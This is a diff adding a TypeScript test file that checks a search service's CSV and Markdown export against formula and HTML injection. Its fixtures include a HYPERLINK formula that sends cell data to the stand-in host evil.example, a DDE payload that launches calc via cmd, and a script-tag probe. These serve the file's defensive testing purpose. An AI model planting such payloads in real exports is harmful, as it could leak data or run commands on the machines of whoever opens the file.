@@ -1,0 +1,87 @@
+// Report text is untrusted: exported as CSV it must never become a spreadsheet formula,
+// and as Markdown it must not smuggle in table cells or HTML.
+import assert from 'node:assert/strict';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import fc from 'fast-check';
+import { exportResults } from '../../services/api/export.js';
+import type { Hit } from '../../services/search/types.js';
+import { serverWith } from './support.js';
+
+/** RFC 4180 CSV → rows of cells. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
+    } else if (c === '"' && cell === '') quoted = true;
+    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; } else cell += c;
+  }
+  if (cell || row.length) { row.push(cell); rows.push(row); }
+  return rows;
+}
+
+const DANGEROUS = /^[=+\-@\t\r]/;
+const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+1+1', '-2+3', '@SUM(1,1)', '\t=1', '\r=1', '=cmd|\' /C calc\'!A0', '"=1"', ',=1', '\n=1'];
+
+const hit = (text: string, title = '标题'): Hit => ({
+  id: 'x:p1', reportId: '0123456789abcdef', ordinal: 1, section: 'overview', themes: [], score: 1, text, highlights: [], html: text, snippet: text,
+  citation: { text, sectionLabel: text, reportTitle: title } as unknown as Hit['citation'],
+  report: { id: '0123456789abcdef', title, issuer: text, year: 2020, level: 'township', demo: false,
+    region: { province: text, city: null, county: null, township: null, code: null } },
+});
+
+describe('CSV export', () => {
+  it('neutralises every cell that a spreadsheet would run as a formula', () => {
+    fc.assert(fc.property(fc.oneof(fc.constantFrom(...PAYLOADS), fc.string({ unit: 'binary', maxLength: 40 })), fc.constantFrom(...PAYLOADS), (text, title) => {
+      const csv = exportResults([hit(text, title)], 'csv', text).body;
+      assert.ok(csv.startsWith('\ufeff'));
+      const rows = parseCsv(csv.slice(1));
+      assert.equal(rows.length, 2, JSON.stringify(csv));
+      for (const cell of rows[1]!) assert.doesNotMatch(cell, DANGEROUS, JSON.stringify(cell));
+      // The text is kept whole, behind the one apostrophe.
+      assert.equal(rows[1]![1], DANGEROUS.test(text) ? `'${text}` : text);
+    }), { numRuns: 300, seed: 3 });
+  });
+
+  it('keeps Markdown rows to one line and their cells closed', () => {
+    const md = exportResults([hit('a | b\n<script>alert(1)</script>')], 'md', '"q" | <b>').body;
+    assert.doesNotMatch(md, /<script>|<b>/);
+    const row = md.trim().split('\n').at(-1)!;
+    assert.equal(row.split(/(?<!\\)\|/).length, 5, row);
+  });
+});
+
+describe('GET /api/export over a report written to attack spreadsheets', () => {
+  let dir: string;
+  let s: Awaited<ReturnType<typeof serverWith>>;
+  before(async () => {
+    dir = mkdtempSync(join(tmpdir(), 'gongkai-formula-'));
+    writeFileSync(join(dir, 'evil.txt'), `某某镇人民政府2020年政府信息公开工作年度报告
+一、总体情况
+${PAYLOADS.filter((p) => !/[\t\r\n]/.test(p)).map((p) => `${p} 公式注入测试段落。`).join('\n')}
+二、存在的主要问题及改进情况
+=1+1 公式注入测试段落。
+`);
+    s = await serverWith({}, [dir]);
+  });
+  after(async () => { await s.close(); rmSync(dir, { recursive: true, force: true }); });
+
+  it('serves a CSV file whose cells are all inert', async () => {
+    const res = await fetch(`${s.url}/api/export?q=${encodeURIComponent('公式注入测试段落')}&format=csv`);
+    assert.equal(res.status, 200);
+    assert.match(res.headers.get('content-type') ?? '', /^text\/csv; charset=utf-8/);
+    assert.match(res.headers.get('content-disposition') ?? '', /^attachment; filename="gongkai-\d{4}-\d{2}-\d{2}\.csv"$/);
+    assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
+    const rows = parseCsv((await res.text()).replace(/^\ufeff/, ''));
+    assert.ok(rows.length >= 3, `${rows.length} rows`);
+    assert.ok(rows.slice(1).some((r) => r[1]!.startsWith("'=")), 'a formula-looking passage is there, neutralised');
+    for (const r of rows.slice(1)) for (const cell of r) assert.doesNotMatch(cell, DANGEROUS, cell);
+  });
+});
